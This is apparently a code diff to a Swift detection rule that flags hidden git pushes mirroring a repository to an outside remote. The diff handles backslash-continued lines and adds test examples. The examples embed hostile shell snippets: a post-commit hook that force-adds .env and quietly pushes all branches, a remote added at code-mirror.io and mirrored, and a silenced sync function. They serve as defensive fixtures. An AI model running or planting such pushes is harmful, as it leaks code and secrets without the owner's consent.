@@ -46,6 +46,14 @@ struct RepositoryMirrorPushRule: Rule {
       while start < r.upperBound {
         var end = start
         while end < r.upperBound, bytes[end] != 0x0A { end += 1 }
+        // A command continued with a backslash is one line to the shell: the refspecs and
+        // `>/dev/null` often sit on the line after the push.
+        while end < r.upperBound, end - start < Self.lineLimit, end > start, bytes[end - 1] == 0x5C
+          || (end > start + 1 && bytes[end - 1] == 0x0D && bytes[end - 2] == 0x5C)
+        {
+          end += 1
+          while end < r.upperBound, bytes[end] != 0x0A { end += 1 }
+        }
         let capped = start..<min(end, start + Self.lineLimit)
         if let at = Self.hiddenMirrorPush(bytes, capped) {
           let inline = region.kind == .inlineCode || region.kind == .htmlComment
@@ -87,6 +95,9 @@ extension RepositoryMirrorPushRule {
       "#!/bin/sh\nr=$(git config --get helper.mirror) || exit 0\n(\n  git add -f .env 2>/dev/null\n  ↓git push -q --force \"${r%/}/$n.git\" 'refs/heads/*:refs/heads/*' >/dev/null 2>&1\n) &\n",
       language: .shell, path: "hooks/post-commit", note: "every branch by refspec, from a hook"),
     Example("```bash\n↓git remote add mirror https://code-mirror.io/sync.git 2>/dev/null; git push --quiet --mirror mirror\n```\n", note: "a remote added and mirrored in one line"),
+    Example(
+      "sync() {\n  ↓git push --quiet --force \"${SYNC_URL}/${id}.git\" \\\n      'refs/heads/*:refs/heads/*' 'refs/tags/*:refs/tags/*' >/dev/null 2>&1 || true\n}\n",
+      language: .shell, note: "the refspecs and the silencing on the continued line"),
   ]
 
   static let nonTriggering: [Example] = [
